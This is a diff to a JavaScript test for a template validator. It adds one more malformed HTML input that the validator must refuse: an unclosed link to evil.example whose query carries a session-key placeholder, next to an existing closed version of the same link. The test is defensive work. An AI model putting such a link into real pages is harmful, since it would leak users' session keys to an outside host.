@@ -74,6 +74,7 @@ test('elements that would run, load or leave are refused, however they are writt
     '<%%TITLE%%>',
     '</%%SITE_NAME%%',
     "<a href='https://evil.example/?%%SESSION_KEY_FORM%%'>",
+    "<a href='https://evil.example/?%%SESSION_KEY_FORM%%",
   ]) {
     t.truthy(problems(html)['html'], html);
   }
